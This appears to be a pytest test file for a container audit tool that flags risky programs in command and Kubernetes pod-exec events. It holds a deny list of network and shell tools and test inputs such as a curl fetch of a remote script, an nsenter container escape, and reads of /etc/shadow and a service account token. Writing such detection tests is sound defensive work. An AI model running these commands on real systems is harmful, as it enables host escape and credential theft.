"""The risky-program catalogue, users' own lists, and what counts as risky."""

import json

import pytest

from ackaudit.audit.risky import RiskyProgram, builtin_catalogue, load_catalogue, risk_of
from ackaudit.errors import ExitCode, UsageError

SEED_ALERT_NAMES = ["rm", "sudo", "su", "nsenter", "curl", "wget", "yum", "apt-get", "apt", "apk", "dpkg", "nc",
                    "ncat", "ssh", "scp", "nmap", "docker", "crictl", "nerdctl", "podman", "kubectl", "helm", "mysql",
                    "redis", "psql", "redis-cli", "pip", "npm", "gem"]


def command(cmdline, name=None):
    return {"kind": "Command", "process.name": name if name is not None else cmdline.split()[0],
            "process.cmdline": cmdline}


def pod_exec(argv=None, command_str=None):
    event = {"kind": "Kubernetes", "kubeObject.operation.kind": "PodExec"}
    if argv is not None:
        event["kubeObject.operation.podExecOptions.command"] = argv
    if command_str is not None:
        event["kubeObject.operation.podExecOptions.commandStr"] = command_str
    return event


def test_builtin_catalogue_is_the_seed_list_with_reasons():
    catalogue = builtin_catalogue()
    assert list(catalogue) == SEED_ALERT_NAMES
    assert catalogue["nsenter"] == RiskyProgram("nsenter", "container-escape", catalogue["nsenter"].reason)
    assert all(p.reason and p.category for p in catalogue.values())


def test_builtin_catalogue_cannot_be_changed_by_a_caller():
    builtin_catalogue().pop("rm")
    assert "rm" in builtin_catalogue()


@pytest.mark.parametrize("cmdline, name, expected", [
    ("curl -fsSL http://203.0.113.77/k.sh", "curl", "curl"),
    ("/usr/bin/curl -s http://x", "/usr/bin/curl", "curl"),
    ("wget -q http://x -O /tmp/.x.b64", "wget", "wget"),
    ("nsenter -t 1 -m -u -i -n sh", "nsenter", "nsenter"),
    ("crictl ps", "crictl", "crictl"),
    ("rm -f /tmp/.x.sh", "", "rm"),                       # no process.name: the command line's first word
])
def test_catalogued_programs_are_risky(cmdline, name, expected):
    risk = risk_of(command(cmdline, name), builtin_catalogue())
    assert risk is not None and risk.name == expected and risk == builtin_catalogue()[expected]


@pytest.mark.parametrize("cmdline, category", [
    ("base64 -d /tmp/.x.b64", "obfuscation"),
    ("base64 --decode payload", "obfuscation"),
    ("xxd -r -p dump.hex", "obfuscation"),
    (".x.sh", "hidden-program"),
    ("cat /etc/shadow", "credential-access"),
    ("cat /var/run/secrets/kubernetes.io/serviceaccount/token", "credential-access"),
])
def test_risky_behaviours_whatever_the_program(cmdline, category):
    risk = risk_of(command(cmdline), builtin_catalogue())
    assert risk is not None and risk.category == category and risk.name == cmdline.split()[0] and risk.reason


@pytest.mark.parametrize("cmdline", ["ls -la", "base64 /tmp/file", "cat /etc/passwd", "sh", "id", "chmod +x /tmp/.x.sh",
                                     "python manage.py migrate", "mkdir -p /var/tmp/.cache", "curly", "redis-server"])
def test_ordinary_commands_are_not_risky(cmdline):
    assert risk_of(command(cmdline), builtin_catalogue()) is None


def test_pod_exec_running_a_risky_program_directly():
    catalogue = builtin_catalogue()
    assert risk_of(pod_exec(["curl", "http://x"]), catalogue).name == "curl"
    assert risk_of(pod_exec(["/usr/bin/nsenter", "-t", "1"]), catalogue).name == "nsenter"
    assert risk_of(pod_exec(command_str="redis-cli -a 'x y' info"), catalogue).name == "redis-cli"
    assert risk_of(pod_exec(command_str="cat /etc/shadow"), catalogue).category == "credential-access"
    assert risk_of(pod_exec(["sh"]), catalogue) is None
    assert risk_of(pod_exec(["env"], command_str="env"), catalogue) is None
    assert risk_of(pod_exec(command_str="curl 'unbalanced"), catalogue).name == "curl"
    assert risk_of(pod_exec(), catalogue) is None


def test_other_events_are_not_risky():
    assert risk_of({"kind": "Kubernetes", "kubeObject.operation.kind": "PodAttach"}, builtin_catalogue()) is None
    assert risk_of({}, builtin_catalogue()) is None


def test_a_custom_catalogue_replaces_the_programs(tmp_path):
    path = tmp_path / "risky.txt"
    path.write_text("# our list\ntcpdump: captures traffic\n\n  strace  \n", encoding="utf-8")
    catalogue = load_catalogue(str(path))
    assert catalogue == {"tcpdump": RiskyProgram("tcpdump", "custom", "captures traffic"),
                         "strace": RiskyProgram("strace", "custom", "Listed in your risky-program file.")}
    assert risk_of(command("tcpdump -i eth0"), catalogue).reason == "captures traffic"
    assert risk_of(command("curl http://x"), catalogue) is None


def test_a_custom_json_catalogue(tmp_path):
    path = tmp_path / "risky.json"
    path.write_text(json.dumps({"version": 1, "programs": [
        {"name": "socat", "category": "network-tool", "reason": "Relays connections."}, {"name": "gdb"}]}))
    assert load_catalogue(str(path)) == {"socat": RiskyProgram("socat", "network-tool", "Relays connections."),
                                         "gdb": RiskyProgram("gdb", "custom", "Listed in your risky-program file.")}


@pytest.mark.parametrize("content, message", [
    ("{not json", "not valid JSON"),
    ('{"version": 1}', '"programs"'),
    ('{"programs": [{"category": "x"}]}', "program #1"),
    ('{"programs": [{"name": "two words"}]}', "program #1"),
    ('{"programs": []}', "names no programs"),
    ("curl\ntwo words: reason\n", "line 2"),
    ("# only a comment\n\n", "names no programs"),
])
def test_bad_catalogues_are_one_line_usage_errors(tmp_path, content, message):
    path = tmp_path / "risky"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(UsageError, match=message) as caught:
        load_catalogue(str(path))
    assert caught.value.exit_code == ExitCode.USAGE and "\n" not in caught.value.message


def test_unreadable_catalogue_is_a_usage_error(tmp_path):
    with pytest.raises(UsageError, match="cannot read"):
        load_catalogue(str(tmp_path / "missing.txt"))
    binary = tmp_path / "binary"
    binary.write_bytes(b"\xff\xfe\x00curl")
    with pytest.raises(UsageError, match="cannot read"):
        load_catalogue(str(binary))
